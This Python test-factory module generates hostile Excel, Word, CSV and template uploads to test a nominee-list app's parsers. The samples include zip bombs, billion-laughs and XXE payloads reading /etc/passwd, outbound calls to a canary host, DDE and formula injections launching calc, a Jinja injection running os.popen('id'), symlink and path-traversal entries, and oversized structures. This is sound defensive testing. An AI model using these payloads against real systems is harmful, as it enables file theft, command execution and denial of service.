"""Hostile lists, Word papers and templates, made here and not stored: name → (file name, bytes)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx

from tests.factories.documents import PDF_BYTES, zip_bytes
from tests.factories.nominee_lists import HEAD, PEOPLE, word, xlsx
from thidua.documents.ooxml import MAX_UNPACKED

Sample = tuple[str, bytes]
Samples = dict[str, Callable[[], Sample]]

MEGA = 1024 * 1024
SHEET, STRINGS, BODY = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "word/document.xml"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTSIDE = "http://127.0.0.1:9/canary"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]><a>&a9;</a>"
).encode()
READER = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
CALLER = f'<!DOCTYPE a SYSTEM "{OUTSIDE}"><a/>'.encode()


def changed(data: bytes, **entries: bytes) -> bytes:
    """The same zip with parts replaced or added; keys with `__` for `/` and `_dot_` for `.`."""
    new = {name.replace("__", "/").replace("_dot_", "."): value for name, value in entries.items()}
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out,
    ):
        for entry in old.infolist():
            if entry.filename not in new:
                out.writestr(entry, old.read(entry))
        for name, value in new.items():
            out.writestr(name, value)
    return made.getvalue()


def list_book() -> bytes:
    return xlsx([HEAD, *PEOPLE])


def list_paper() -> bytes:
    return word("DANH SÁCH", [HEAD, *PEOPLE])


def template_paper() -> bytes:
    paper, made = docx.Document(), io.BytesIO()
    paper.add_paragraph("Đơn vị: {{ ten_don_vi }}")
    paper.save(made)
    return made.getvalue()


def _book(**entries: bytes) -> Sample:
    return "danh-sach.xlsx", changed(list_book(), **entries)


def _sheet(rows: str, before: str = "") -> Sample:
    text = f'<worksheet xmlns="{_S}">{before}<sheetData>{rows}</sheetData></worksheet>'
    return _book(**{SHEET: text.encode()})


def _head_row() -> str:
    cells = "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in HEAD)
    return f"<row>{cells}</row>"


def _person_row(values: str) -> str:
    return _head_row() + f"<row>{values}</row>"


def _text(value: str) -> str:
    return f'<c t="inlineStr"><is><t>{value}</t></is></c>'


def _ole() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def _lying(data: bytes) -> bytes:
    real = (MAX_UNPACKED + 1).to_bytes(4, "little")
    assert data.count(real) == 2
    return data.replace(real, (10).to_bytes(4, "little"))


def _symlink(data: bytes, part: str) -> bytes:
    """A part that is a symbolic link to a file of the server."""
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as archive:
        entry = zipfile.ZipInfo(part)
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return made.getvalue()


def _packaged(extension: str, good: Callable[[], bytes], main: str) -> Samples:
    """What any Office file can be."""
    name = f"danh-sach.{extension}"
    rels = "xl/_rels/workbook.xml.rels" if extension == "xlsx" else "word/_rels/document.xml.rels"
    out = f'<Relationships xmlns="{_R}">' + "".join(
        f'<Relationship Id="x{n}" Type="{_OFFICE}/{kind}" Target="{OUTSIDE}" TargetMode="External"/>'
        for n, kind in enumerate(("attachedTemplate", "image", "externalLink", "oleObject", "worksheet", "styles"))
    )
    return {
        "zip bomb": lambda: (name, changed(good(), media=b"\0" * (MAX_UNPACKED + 1))),
        "zip bomb with a lying directory": lambda: (name, _lying(changed(good(), media=b"\0" * (MAX_UNPACKED + 1)))),
        "big part nobody reads": lambda: (name, changed(good(), media=b"\0" * (MAX_UNPACKED - 2 * MEGA))),
        "billion laughs": lambda: (name, changed(good(), **{main: LAUGHS})),
        "reads a file": lambda: (name, changed(good(), **{main: READER})),
        "reads a file, in UTF-16": lambda: (name, changed(good(), **{main: READER.decode().encode("utf-16")})),
        "calls out for its declaration": lambda: (name, changed(good(), **{main: CALLER})),
        "deep markup": lambda: (name, changed(good(), **{main: b"<a>" * 200_000 + b"</a>" * 200_000})),
        "cut markup": lambda: (name, changed(good(), **{main: b"<a><b"})),
        "markup of zeros": lambda: (name, changed(good(), **{main: b"\0" * MEGA})),
        "relations to the outside": lambda: (name, changed(good(), **{rels: (out + "</Relationships>").encode()})),
        "a million relations": lambda: (
            name,
            changed(
                good(), **{rels: f'<Relationships xmlns="{_R}">{"<Relationship/>" * MEGA}</Relationships>'.encode()}
            ),
        ),
        "a million types": lambda: (
            name,
            _more(good(), "[Content_Types].xml", b"</Types>", b'<Override PartName="/a" ContentType="b"/>' * MEGA),
        ),
        "macro": lambda: (name, changed(good(), xl__vbaProject_dot_bin=_ole())),
        "way out": lambda: (name, changed(good(), **{"../../etc/passwd": b"x"})),
        "symbolic link": lambda: (name, _symlink(good(), "link.xml")),
        "program": lambda: (name, b"MZ\x90\0" + b"\0" * 4096),
        "program before it": lambda: (name, b"MZ\x90\0" + good()),
        "page after it": lambda: (name, good() + b"<script>alert(1)</script>"),
        "PDF after it": lambda: (name, good() + PDF_BYTES),
        "with a password": lambda: (name, _ole()),
        "encrypted entries": lambda: (name, _encrypted(good())),
    }


def _encrypted(data: bytes) -> bytes:
    made = bytearray(data)
    made[made.index(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def _more(data: bytes, part: str, before: bytes, extra: bytes) -> bytes:
    """`extra` put before the first `before` of a part."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read(part)
    assert before in text
    return changed(data, **{part: text.replace(before, extra + before, 1)})


def packaged_book() -> Samples:
    return _packaged("xlsx", list_book, SHEET)


def packaged_paper() -> Samples:
    return _packaged("docx", list_paper, BODY)


def excel() -> Samples:
    return {
        **packaged_book(),
        "ten million empty cells in a row": lambda: _sheet(f"{_head_row()}<row>{'<c/>' * (38 * MEGA // 4)}</row>"),
        "cells in a row up to the limit": lambda: _sheet(f"{_head_row()}<row>{'<c/>' * 1_190_000}</row>"),
        "one sheet thirty times": _one_sheet_again,
        "column beyond the last": lambda: _sheet(f'{_head_row()}<row><c r="ZZZZZZZ2"><v>1</v></c></row>'),
        "last cell of the sheet": lambda: _sheet(
            f'{_head_row()}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', '<dimension ref="A1:XFD1048576"/>'
        ),
        "row of a number without end": lambda: _sheet(f'{_head_row()}<row r="{"9" * 300}"><c><v>1</v></c></row>'),
        "half a million empty rows": lambda: _sheet(_head_row() + "<row/>" * (MEGA // 2)),
        "a hundred thousand rows": lambda: _sheet(
            _head_row() + ("<row>" + _text("1") + _text("Lò Văn An") + "</row>") * 100_000
        ),
        "a million shared strings": lambda: _book(
            **{STRINGS: f'<sst xmlns="{_S}">{"<si><t>a</t></si>" * (11 * MEGA // 17)}</sst>'.encode()}
        ),
        "shared strings of gigabytes": lambda: _book(
            **{STRINGS: f'<sst xmlns="{_S}"><si><t>{"a" * 10**8}</t></si></sst>'.encode()}
        ),
        "a million styles": lambda: _more_book("xl/styles.xml", b"</cellXfs>", b"<xf/>" * 600_000),
        "styles up to the limit": lambda: _more_book("xl/styles.xml", b"</cellXfs>", b"<xf/>" * 149_000),
        "a million fonts": lambda: _more_book("xl/styles.xml", b"</fonts>", b"<font/>" * (3 * MEGA // 7)),
        "a million names": lambda: _more_book(
            "xl/workbook.xml",
            b"</workbook>",
            b"<definedNames>" + b'<definedName name="a">b</definedName>' * MEGA + b"</definedNames>",
        ),
        "a million sheets": lambda: _more_book(
            "xl/workbook.xml", b"</sheets>", b'<sheet name="a" sheetId="1"/>' * MEGA
        ),
        "a million merged areas": lambda: _sheet_with_merges(1_000_000),
        "merged areas up to the limit": lambda: _sheet_with_merges(59_000),
        "formulas that call": lambda: _sheet(
            _person_row(
                _text("1") + f'<c t="str"><f>WEBSERVICE("{OUTSIDE}")</f><v>Lò Văn An</v></c>'
                + "<c><v>1975</v></c>" + _text("=cmd|' /C calc'!A0") + _text("@SUM(1+1)*cmd|'x'!A0")
            )
        ),
        "numbers without end": lambda: _sheet(
            _person_row(
                _text("1") + _text("Lò Văn An")
                + f"<c><v>{'9' * 5000}</v></c><c><v>1e999</v></c><c><v>nan</v></c>"
            )
        ),
        "day of a year 10^9": lambda: _sheet(
            _person_row(_text("1") + _text("Lò Văn An") + '<c t="d"><v>999999999-01-01</v></c>')
        ),
        "string of no place": lambda: _sheet(_person_row(_text("1") + '<c t="s"><v>99999999</v></c>')),
    }  # fmt: skip


def _more_book(part: str, before: bytes, extra: bytes) -> Sample:
    return "danh-sach.xlsx", _more(list_book(), part, before, extra)


def _one_sheet_again() -> Sample:
    """Thirty sheets of a workbook that are one part, which a reader would read thirty times."""
    name, data = _sheet(_head_row() + "<row/>" * 200_000)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        book = archive.read("xl/workbook.xml")
    sheet = book[book.index(b"<sheet ") : book.index(b"</sheets>")]
    again = b"".join(sheet.replace(b"Sheet1", b"Sheet%d" % n) for n in range(2, 31))
    return name, _more(data, "xl/workbook.xml", b"</sheets>", again)


def _sheet_with_merges(count: int) -> Sample:
    areas = "".join(f'<mergeCell ref="A{n}:XFD{n + 9}"/>' for n in range(1, count))
    text = f'<worksheet xmlns="{_S}"><sheetData>{_head_row()}</sheetData><mergeCells>{areas}</mergeCells></worksheet>'
    return _book(**{SHEET: text.encode()})


def _body(inner: str, good: Callable[[], bytes] = list_paper) -> Sample:
    text = f'<w:document xmlns:w="{_W}"><w:body>{inner}</w:body></w:document>'
    return "danh-sach.docx", changed(good(), **{BODY: text.encode()})


def _cell(inner: str) -> str:
    return f"<w:tc>{inner}</w:tc>"


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _row(*texts: str) -> str:
    return f"<w:tr>{''.join(_cell(_paragraph(text)) for text in texts)}</w:tr>"


def _spanning(columns: str) -> str:
    span = f'<w:tcPr><w:gridSpan w:val="{columns}"/></w:tcPr>'
    return f"<w:tbl>{_row(*HEAD)}<w:tr>{_cell(span + _paragraph('x'))}</w:tr></w:tbl>"


def papers(good: Callable[[], bytes] = list_paper) -> Samples:
    nested = "<w:tbl><w:tr><w:tc>" * 60 + _paragraph("x") + "</w:tc></w:tr></w:tbl>" * 60
    field = '<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\calc.exe "x" </w:instrText></w:r></w:p>'
    link = f'<w:p><w:r><w:instrText> INCLUDETEXT "{OUTSIDE}" </w:instrText></w:r></w:p>'
    person = _row("1", "Lò Văn An", "1975", "=cmd|' /C calc'!A0", "Xã", "Bằng khen", "Thành tích")

    def body(inner: Callable[[], str]) -> Callable[[], Sample]:
        return lambda: _body(inner(), good)

    return {
        **_packaged("docx", good, BODY),
        "tables in tables": body(lambda: nested),
        "a table of tables": body(lambda: f"<w:tbl>{_row(*HEAD)}<w:tr>{_cell(nested) * 5}</w:tr></w:tbl>"),
        "a million paragraphs": body(lambda: "<w:p/>" * MEGA),
        "a million runs in a paragraph": body(lambda: f"<w:p>{'<w:r/>' * MEGA}</w:p>"),
        "ten million runs in a paragraph": body(lambda: f"<w:p>{'<w:r/>' * (59 * MEGA // 6)}</w:p>"),
        "ten million marks between paragraphs": body(lambda: "<w:a/>" * (59 * MEGA // 6)),
        "runs in a paragraph up to the limit": body(lambda: f"<w:p>{'<w:r/>' * 1_490_000}</w:p>"),
        "a million cells in a row": body(lambda: f"<w:tbl><w:tr>{'<w:tc/>' * MEGA}</w:tr></w:tbl>"),
        "texts up to the limit": body(lambda: f"<w:tbl>{_row(*HEAD)}{_row('1', 'Lò Văn ' * 3000) * 80}</w:tbl>"),
        "cells over a million columns": body(lambda: _spanning("1000000")),
        "cells over no number of columns": body(lambda: _spanning("-1")),
        "a hundred thousand rows": body(lambda: f"<w:tbl>{_row(*HEAD)}{_row('1', 'Lò Văn An') * 100_000}</w:tbl>"),
        "fields that call": body(lambda: field + link + f"<w:tbl>{_row(*HEAD)}{person}</w:tbl>"),
        "one text of eleven megabytes": body(lambda: _paragraph("a" * (11 * MEGA))),
        "a long name again and again": body(lambda: f"<w:tbl>{_row(*HEAD)}{_row('1', 'Lò Văn ' * 3000) * 200}</w:tbl>"),
        "a million styles": lambda: (
            "danh-sach.docx",
            _more(good(), "word/styles.xml", b"</w:styles>", b"<w:style/>" * (38 * MEGA // 10)),
        ),
    }


def texts() -> Samples:
    head, line = "STT;Họ và tên;Năm sinh;Chức vụ\n", "1;Lò Văn An;1975;Kế toán\n"
    good = head + line
    return {
        "program": lambda: ("ds.csv", b"MZ\x90\0" + b"\0" * 4096),
        "zip": lambda: ("ds.csv", zip_bytes({"a": b"a"})),
        "zeros": lambda: ("ds.csv", b"\0" * MEGA),
        "zeros between": lambda: ("ds.csv", good.replace("Văn", "V\0ăn").encode()),
        "UTF-16 with its mark": lambda: ("ds.csv", good.encode("utf-16")),
        "UTF-16 without its mark": lambda: ("ds.csv", good.encode("utf-16-le")),
        "UTF-16 cut": lambda: ("ds.csv", good.encode("utf-16")[:-1]),
        "UTF-8 with its mark twice": lambda: ("ds.csv", b"\xef\xbb\xbf" * 2 + good.encode()),
        "UTF-8 cut inside a letter": lambda: ("ds.csv", good.encode()[:9]),
        "UTF-7": lambda: ("ds.csv", good.encode("utf-7")),
        "UTF-32": lambda: ("ds.csv", good.encode("utf-32")),
        "letters of no encoding": lambda: ("ds.csv", b"\xff\x81\x8d\x8f" * 1000),
        "formulas": lambda: ("ds.csv", (head + '1;"=cmd|\' /C calc\'!A0";1975;"@SUM(1)"\n' + line).encode()),
        "a million columns": lambda: ("ds.csv", (head + ";" * 1_000_000 + "\n").encode()),
        "a million columns of text": lambda: ("ds.csv", (head + "a;" * 1_000_000 + "\n").encode()),
        "a hundred thousand rows": lambda: ("ds.csv", (head + line * 100_000).encode()),
        "a million empty lines": lambda: ("ds.csv", (head + "\n" * 1_000_000).encode()),
        "a quote that never ends": lambda: ("ds.csv", (head + '1;"' + line * 20_000).encode()),
        "a cell of three megabytes": lambda: ("ds.csv", (head + f"1;{'Lò Văn ' * 250_000};1975;x\n").encode()),
        "spaces without end": lambda: ("ds.csv", (head + f"1;{' ' * 3_000_000}x;1975;x\n").encode()),
        "marks on one letter": lambda: ("ds.csv", (head + f"1;a{chr(0x301) * 500_000};1975;x\n").encode()),
        "long rows that nearly match": lambda: (
            "ds.csv",
            (head + f"1;{'A.' * 900};1975;{', - ' * 450}\n" * 500).encode(),
        ),
        "numbers without end": lambda: ("ds.csv", (head + f"1;Lò Văn An;{'9' * 1900};{'1.' * 900}\n" * 300).encode()),
        "half signs": lambda: ("ds.csv", good.encode() + "1;\ud800\udc00;1;1".encode("utf-8", "surrogatepass")),
    }


def templates() -> Samples:
    def body(inner: Callable[[], str]) -> Callable[[], Sample]:
        return lambda: _body(inner(), template_paper)

    header = f'<w:hdr xmlns:w="{_W}">{"<w:p/>" * (3 * MEGA // 6)}</w:hdr>'.encode()
    return {
        "a program in a place": body(lambda: _paragraph("{{ cycler.__init__.__globals__.os.popen('id').read() }}")),
        "a loop of loops": body(lambda: _paragraph("{% for a in danh_sach %}" * 300 + "x" + "{% endfor %}" * 300)),
        "a power without end": body(lambda: _paragraph("{{ 9 ** 9 ** 9 }}")),
        "a range without end": body(lambda: _paragraph("{% for a in range(10 ** 12) %}x{% endfor %}")),
        "a million brackets": body(lambda: _paragraph("{{" * MEGA)),
        "half a million marks": body(lambda: _paragraph("{% " * (MEGA // 2))),
        "marks split by tags": body(lambda: f"<w:p>{'{<w:r/>' * 400_000}</w:p>"),
        "places split by tags": body(lambda: f"<w:p>{'<w:r><w:t>{{</w:t></w:r>' * 100_000}</w:p>"),
        "a million notes": body(lambda: _paragraph("{# " * (MEGA // 2))),
        "rows without end": body(lambda: f"<w:tbl>{'<w:tr><w:tc>{%tr ' * 100_000}</w:tbl>"),
        "brackets in brackets": body(lambda: _paragraph("{{ " + "(" * 100_000 + "ten_don_vi" + ")" * 100_000 + " }}")),
        "thirty headers": lambda: (
            "mau.docx",
            changed(
                template_paper(),
                **{f"word/header{n}.xml": header for n in range(30)},
                **_headers(30),
            ),
        ),
    }


def _headers(count: int) -> dict[str, bytes]:
    """Types and relations that make Word read so many headers."""
    mime = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    with zipfile.ZipFile(io.BytesIO(template_paper())) as archive:
        types, rels = archive.read("[Content_Types].xml"), archive.read("word/_rels/document.xml.rels")
    more = "".join(f'<Override PartName="/word/header{n}.xml" ContentType="{mime}"/>' for n in range(count))
    links = "".join(f'<Relationship Id="h{n}" Type="{_OFFICE}/header" Target="header{n}.xml"/>' for n in range(count))
    return {
        "[Content_Types].xml": types.replace(b"</Types>", more.encode() + b"</Types>"),
        "word/_rels/document.xml.rels": rels.replace(b"</Relationships>", links.encode() + b"</Relationships>"),
    }
